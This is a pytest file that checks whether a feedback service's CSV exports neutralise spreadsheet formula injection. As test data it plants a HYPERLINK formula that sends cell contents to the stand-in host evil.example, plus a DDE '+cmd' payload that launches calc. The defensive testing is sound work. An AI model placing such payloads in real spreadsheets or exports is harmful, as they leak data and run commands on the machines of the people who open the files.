"""The CSV exports of the API and of ``feedback-nlp report --csv``: formula text neutralised.

Feedback with planted formulas (``=HYPERLINK``, ``+cmd``, ``-2+3``, ``@SUM``) in its text and
segment values goes in through ``POST /v1/feedback``; a mining run is written by hand through
``Store.save_mining`` (no model), with theme labels that are formulas too. Every exported cell
is then read back with :mod:`csv`: no cell may start like a formula, text must otherwise be kept
exactly (RTL, emoji), and numbers (negative sentiment) must stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api.main import create_app
from feedback_nlp.cli import app as cli_app
from feedback_nlp.domain import FeedbackFilter, MinedTheme
from feedback_nlp.report.csv_export import BOM, DANGEROUS_PREFIXES
from feedback_nlp.report.csv_tables import FEEDBACK_COLUMNS, THEME_COLUMNS
from feedback_nlp.settings import Settings
from feedback_nlp.store import Store
from tests.api.api_support import assert_problem, bearer, make_settings
from tests.store.factory import HandUnit, save_hand_mining

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
TEXTS = {
    "f-0": HYPERLINK,
    "f-1": "+cmd|' /C calc'!A0 charged me twice",
    "f-2": "-2+3 is what the app says I owe",
    "f-3": "@(A1+A9) refund please",  # @SUM(...) would be redacted as an @handle at ingest
    "f-4": "التطبيق بطيء جدا 😡",
    "f-5": "המשלוח איחר בשבוע, =לא נעים",
}
PLANS = {"f-0": "=1+1", "f-1": "+cmd", "f-2": "-1", "f-3": "@(1)", "f-4": "pro", "f-5": "pro"}
NEGATIVE = ("f-0", "f-1", "f-2", "f-3")  # theme t_000001, sentiment -0.8
THEME_LABEL = '=HYPERLINK("http://evil.example")'
GROUP_LABEL = "-money"
RENAMED = "@SUM(1+1)"


def rows_of(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    """No cell starts like a formula, except plain numbers (a negative sentiment: -0.8)."""
    for row in rows:
        for cell in row:
            assert is_number(cell) or not cell.startswith(DANGEROUS_PREFIXES), (cell, row)


def mine_by_hand(store: Store, workspace_id: int) -> None:
    """t_000001 (the four formula items, -0.8), t_000002 (RTL items, 0.5), group p_000001."""

    def theme(theme_id: str, level: int, label: str, size: int, **extra: Any) -> MinedTheme:
        fields: dict[str, Any] = {
            "keyphrases": {"en": [label]},
            "quotes": [],
            "languages": {"en": size},
            "parent_id": None,
            "confidence": None,
        } | extra
        return MinedTheme(theme_id=theme_id, level=level, label={"en": label}, size=size, **fields)

    themes = [
        theme(
            "t_000001",
            0,
            THEME_LABEL,
            4,
            parent_id="p_000001",
            confidence=0.9,
            quotes=[{"text": TEXTS["f-0"], "lang": "en", "external_id": "f-0"}],
        ),
        theme("t_000002", 0, "slow app", 2, parent_id="p_000001"),
        theme("p_000001", 1, GROUP_LABEL, 6),
    ]
    items = store.mining_items(workspace_id, FeedbackFilter())
    negative = {item.item_id for item in items if item.external_id in NEGATIVE}
    save_hand_mining(
        store,
        workspace_id,
        themes,
        lambda item: HandUnit(
            theme_id="t_000001" if item.item_id in negative else "t_000002",
            lang="en",
            sentiment_label="negative" if item.item_id in negative else "positive",
            sentiment_score=-0.8 if item.item_id in negative else 0.5,
        ),
    )


@pytest.fixture(scope="module")
def seeded(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[TestClient, str, str, Settings]]:
    """An app whose workspace holds the planted items, mined by hand; plus an empty workspace."""
    settings = make_settings(tmp_path_factory.mktemp("csv"))
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        store: Store = client.app.state.store  # type: ignore[attr-defined]
        key, other = store.create_api_key("planted"), store.create_api_key("other")
        items = [
            {"id": i, "text": text, "nps": 2 if i in NEGATIVE else 9, "segments": {"plan": plan}}
            for (i, text), plan in zip(TEXTS.items(), PLANS.values(), strict=True)
        ]
        answer = client.post("/v1/feedback", json={"items": items}, headers=bearer(key))
        assert answer.json()["created"] == 6, answer.text
        workspace = store.authenticate(key)
        assert workspace is not None
        mine_by_hand(store, workspace.id)
        renamed = client.patch("/v1/themes/t_000002", json={"label": RENAMED}, headers=bearer(key))
        assert renamed.status_code == 200, renamed.text
        yield client, key, other, settings


def export(client: TestClient, key: str, path: str, **params: Any) -> list[list[str]]:
    response = client.get(path, params=params, headers=bearer(key))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    assert response.content.startswith(b"\xef\xbb\xbf")
    return rows_of(response.text)


def test_feedback_export_neutralises_formulas_and_keeps_numbers(
    seeded: tuple[TestClient, str, str, Settings],
) -> None:
    client, key, _, _ = seeded
    rows = export(client, key, "/v1/feedback/export.csv")
    assert rows[0] == list(FEEDBACK_COLUMNS)
    assert_no_formula_cells(rows)
    by_id = {row[0]: dict(zip(FEEDBACK_COLUMNS, row, strict=True)) for row in rows[1:]}
    assert sorted(by_id) == sorted(TEXTS)
    for item_id, text in TEXTS.items():
        expected = "'" + text if item_id in NEGATIVE else text  # RTL and emoji kept exactly
        assert by_id[item_id]["text"] == expected
        assert json.loads(by_id[item_id]["segments"]) == {"plan": PLANS[item_id]}
    f0, f4 = by_id["f-0"], by_id["f-4"]
    assert (f0["nps"], f0["sentiment"], f4["sentiment"]) == ("2", "-0.8", "0.5")  # numbers
    assert (f0["theme_ids"], f0["theme_labels"]) == ("t_000001", "'" + THEME_LABEL)
    assert (f4["theme_ids"], f4["theme_labels"]) == ("t_000002", "'" + RENAMED)


def test_feedback_export_takes_the_list_filters(
    seeded: tuple[TestClient, str, str, Settings],
) -> None:
    client, key, _, _ = seeded
    pro = export(client, key, "/v1/feedback/export.csv", segment="plan:pro")
    assert sorted(row[0] for row in pro[1:]) == ["f-4", "f-5"]
    formulas = export(client, key, "/v1/feedback/export.csv", segment="plan:=1+1")
    assert [row[0] for row in formulas[1:]] == ["f-0"]
    negative = export(client, key, "/v1/feedback/export.csv", sentiment="negative")
    assert sorted(row[0] for row in negative[1:]) == list(NEGATIVE)
    bad = client.get("/v1/feedback/export.csv", params={"segment": "plan"}, headers=bearer(key))
    assert_problem(bad, 422)


def test_exports_need_a_key_and_see_only_their_workspace(
    seeded: tuple[TestClient, str, str, Settings],
) -> None:
    client, _, other, _ = seeded
    for path in ("/v1/feedback/export.csv", "/v1/themes/export.csv"):
        assert_problem(client.get(path), 401)
        assert export(client, other, path)[1:] == []  # the header row only


def test_themes_export_neutralises_labels_and_quotes(
    seeded: tuple[TestClient, str, str, Settings],
) -> None:
    client, key, _, _ = seeded
    rows = export(client, key, "/v1/themes/export.csv")
    assert rows[0] == list(THEME_COLUMNS)
    assert_no_formula_cells(rows)
    by_id = {row[0]: dict(zip(THEME_COLUMNS, row, strict=True)) for row in rows[1:]}
    assert list(by_id) == ["t_000001", "t_000002", "p_000001"]  # themes, then groups
    t1, t2, group = by_id["t_000001"], by_id["t_000002"], by_id["p_000001"]
    assert t1["label"] == "'" + THEME_LABEL
    assert t1["quote_1"] == "'" + HYPERLINK
    assert (t1["quote_2"], t1["quote_3"]) == ("", "")
    # 4 of 6 items, all units at -0.8; numbers stay numbers.
    assert [t1[c] for c in ("level", "parent_id", "size", "n_items", "share")] == [
        "0",
        "p_000001",
        "4",
        "4",
        "0.6667",
    ]
    assert (t1["confidence"], t1["sentiment_mean"], t1["active"]) == ("0.9", "-0.8", "true")
    assert (t2["label"], t2["n_items"], t2["share"], t2["confidence"]) == (
        "'" + RENAMED,
        "2",
        "0.3333",
        "",
    )
    # The group: every item; its units' mean is (4 * -0.8 + 2 * 0.5) / 6 = -0.3667.
    assert (group["label"], group["level"], group["n_items"], group["share"]) == (
        "'" + GROUP_LABEL,
        "1",
        "6",
        "1.0",
    )
    assert group["sentiment_mean"] == "-0.3667"


def test_cli_report_csv_writes_the_same_theme_table(
    seeded: tuple[TestClient, str, str, Settings],
    tmp_path_factory: pytest.TempPathFactory,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    client, key, _, settings = seeded
    out = tmp_path_factory.mktemp("cli") / "themes.csv"
    monkeypatch.setenv("FEEDBACK_NLP_DATABASE__URL", settings.database.url)
    done = CliRunner().invoke(cli_app, ["report", "--workspace", "planted", "--csv", str(out)])
    assert done.exit_code == 0, done.output
    assert "3 themes written" in done.output
    api = client.get("/v1/themes/export.csv", headers=bearer(key)).content
    assert out.read_bytes() == api
